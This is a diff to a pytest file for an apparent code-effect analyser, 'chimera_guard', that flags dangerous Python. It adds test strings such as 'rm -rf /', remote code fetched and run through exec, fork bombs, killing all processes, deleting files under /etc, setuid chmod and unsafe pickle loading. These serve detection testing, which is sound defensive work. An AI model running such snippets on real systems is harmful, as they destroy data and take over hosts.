@@ -4,7 +4,8 @@ from __future__ import annotations
 
 import pytest
 
-from chimera_guard.effects.code import read_code
+from chimera_guard.effects.code import Reading, read_code
+from chimera_guard.words.value import HOLE, SOME_NAME
 from tests.steps import at_most
 
 HARMLESS = [
@@ -27,12 +28,48 @@ EFFECTS = {
     "import os; os.chdir('/'); os.unlink('x')": ("delete", "/x", set()),
     "import os; os.chmod('x', 0o4777)": ("chmod", "x", {"setuid", "world-writable"}),
     "import os\nwhile True: os.fork()": ("exec-code", "python", {"fork-bomb"}),
-    "import requests; requests.post('https://x.example', data='a')": ("send", "https://x.example", set()),
+    "import requests; requests.post('https://x.example', data='a')": ("send", "https://x.example", {"unauthenticated"}),
     "import urllib.request as u; exec(u.urlopen('http://x/y').read())": ("exec-code", "python", {"remote"}),
     "import socket; socket.socket().connect(('1.2.3.4', 99))": ("connect", "1.2.3.4:99", set()),
     "import sqlite3; sqlite3.connect('a.db').execute('DROP TABLE t')": ("database-delete", "DROP TABLE t", set()),
     "import os; os.kill(-1, 9)": ("kill", "-1", set()),
     "for f in ['a', 'b']:\n  __import__('os').remove(f)": ("delete", "b", set()),
+    "import shutil, sys; shutil.rmtree(sys.argv[1])": ("delete", None, {"recursive", "force"}),
+    "import os\nfor r, d, f in os.walk('/etc'):\n  for n in f: os.remove(os.path.join(r, n))": (
+        "delete",
+        f"/etc/{SOME_NAME}/{SOME_NAME}",
+        {"recursive"},
+    ),
+    "import glob, os\n[os.unlink(p) for p in glob.glob('/var/*.log')]": ("delete", f"/var/{SOME_NAME}.log", set()),
+    "import sys; open(f'/etc/{sys.argv[1]}.conf', 'w')": ("write", f"/etc/{HOLE}.conf", set()),
+    "import os\nfor f in os.listdir('a'):\n  if f.endswith('.o'): os.remove('a/' + f)": (
+        "delete",
+        f"a/{SOME_NAME}.o",
+        set(),
+    ),
+    "import os\nfor f in os.listdir('.'):\n  if f in ('a', 'b'): os.rmdir(f)": ("delete", "b", set()),
+    "import psutil\nfor p in psutil.process_iter(): p.kill()": ("kill", None, {"some-processes", "looped"}),
+    "import os, stat; os.chmod('a', stat.S_ISUID | stat.S_IRWXO)": ("chmod", "a", {"setuid", "world-writable"}),
+    "import requests; requests.Session().delete('https://x.example/a')": (
+        "remote-delete",
+        "https://x.example/a",
+        set(),
+    ),
+    "def f(p):\n  p.mkdir(parents=True)\nregister(f)": ("write", None, set()),
+    "while True: x.append(1)": ("service", None, {"busy"}),
+    "def w():\n  while True:\n    import multiprocessing as m\n    m.Process(target=w).start()\nw()": (
+        "exec-code",
+        "python",
+        {"fork-bomb"},
+    ),
+    "from collections import namedtuple\nimport os\nJ = namedtuple('J', 'a b')\nos.remove(J('x', 'y').b)": (
+        "delete",
+        "y",
+        set(),
+    ),
+    "import os\nclass A:\n  @property\n  def p(self): return 'x'\nos.remove(A().p)": ("delete", "x", set()),
+    "import os\ndef g():\n  yield 'x'\nfor f in g(): os.remove(f)": ("delete", "x", set()),
+    "import os\nclass B:\n  def go(self): os.remove(self.t)\nclass C(B):\n  t = 'x'\nC().go()": ("delete", "x", set()),
 }
 RUNS = {
     "import os; os.system('rm -rf /')": "rm -rf /",
@@ -45,14 +82,22 @@ RUNS = {
     "import subprocess; subprocess.run(['rm', '-rf', '.'], cwd='/')": "cd / && { rm -rf .\n}",
     "import os; os.popen(f'{\"l\"}s')": "ls",
     "exec('import os; os.system(\"ls\")')": "ls",
+    "import os; list(map(os.system, ['ls']))": "ls",
+    "import os\ndef f(a, b='s'):\n  return a + b\nos.system(f('l'))": "ls",
+    "import os\nclass C:\n  def __init__(s, c): s.c = c\n  def go(s): os.system(s.c)\nC('ls').go()": "ls",
+    "import os\nd = {'c': 'ls'}\nfor k, v in d.items(): os.system(v)": "ls",
+    "import os, threading as t\nt.Thread(target=os.system, args=('ls',)).start()": "ls",
+    "import os, functools\nfunctools.partial(os.system)('ls')": "ls",
+    "import os\ndef w(f):\n  def g(*a): return f(*a)\n  return g\n@w\ndef r(c): os.system(c)\nr('ls')": "ls",
 }
 CAPABLE = [
     "import os, sys; os.system(sys.argv[1])",
-    "import os; list(map(os.system, ['ls']))",
+    "import os, sys; {'a': os.system}['a'](sys.argv[1])",
+    "import os, sys; sys.settrace(os.system)",
     "().__class__.__bases__[0].__subclasses__()",
     "import sys; exec(sys.stdin.read())",
     "import ctypes; ctypes.CDLL(None).system(b'ls')",
-    "import shutil, sys; shutil.rmtree(sys.argv[1])",
+    "import os\ndef f(cmd):\n  os.system(cmd)\nregister(f)",
     "import pickle, sys; pickle.loads(sys.stdin.buffer.read())",
 ]
 
@@ -60,7 +105,7 @@ CAPABLE = [
 @pytest.mark.parametrize("code", HARMLESS)
 def test_harmless_code_is_read_in_full(code: str) -> None:
     reading = read_code("python", code)
-    assert reading == ((), (), (), True)
+    assert reading == Reading((), (), (), True)
 
 
 @pytest.mark.parametrize(("code", "effect"), EFFECTS.items())
@@ -81,6 +126,23 @@ def test_what_cannot_be_followed_is_said_to_be_capable(code: str) -> None:
     reading = read_code("python", code)
     assert ("unknown", None, frozenset({"language", "capable"})) in reading.effects
     assert not reading.complete
+
+
+def test_the_words_that_code_is_started_with_are_known() -> None:
+    reading = read_code("python", "import os, sys; os.remove(sys.argv[1])", ["-", "x"])
+    assert ("delete", "x", frozenset()) in reading.effects
+
+
+def test_what_is_written_into_files_is_told() -> None:
+    reading = read_code("python", "with open('a.sh', 'w') as f:\n  f.write('ls')\n  f.write(' -l')")
+    assert reading.files == (("a.sh", "ls -l", frozenset()),)
+    reading = read_code("python", "import requests\nopen('a', 'w').write(requests.get('https://x.example').text)")
+    assert reading.files == (("a", None, frozenset({"remote"})),)
+
+
+def test_what_nobody_calls_counts_less() -> None:
+    assert read_code("python", "import os\ndef f(c): os.system(c)").effects == ()
+    assert read_code("python", "import os\ndef f(c): os.system('ls')").shell == ("ls",)
 
 
 def test_unknown_modules_and_bad_syntax_are_incomplete() -> None:
@@ -108,6 +170,11 @@ def test_commands_without_a_shell_keep_their_words() -> None:
         "\ud800",
         "x = 1\n" * 10_000,
         "lambda: " * 5000 + "0",
+        "def f(x):\n  return f(x + 'a') + f(x + 'b')\nf('')",
+        "x = []\nfor i in 'abcdefghijklmnop':\n  for j in 'abcdefghijklmnop':\n    x.append(x)\nprint(str(x))",
+        "x = ['a'] * 4000\ndef f(*a): pass\n" + "".join(f"f(x, {i})\n" for i in range(3000)),
+        "class A(A): pass\nclass A(A): pass\nA().x",
+        "f = lambda g: g(g)\nf(f)",
     ],
 )
 def test_hostile_code_is_bounded(code: str) -> None:
